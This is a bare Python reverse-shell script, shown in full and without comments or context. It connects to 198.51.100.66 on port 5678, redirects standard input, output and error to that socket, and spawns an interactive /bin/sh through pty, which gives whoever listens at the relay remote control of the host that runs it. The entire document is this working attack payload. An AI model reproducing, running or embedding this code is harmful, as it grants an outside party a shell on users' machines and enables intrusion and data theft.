#!/usr/bin/env python3
import os, pty, socket

RELAY = ("198.51.100.66", 5678)

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(RELAY)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
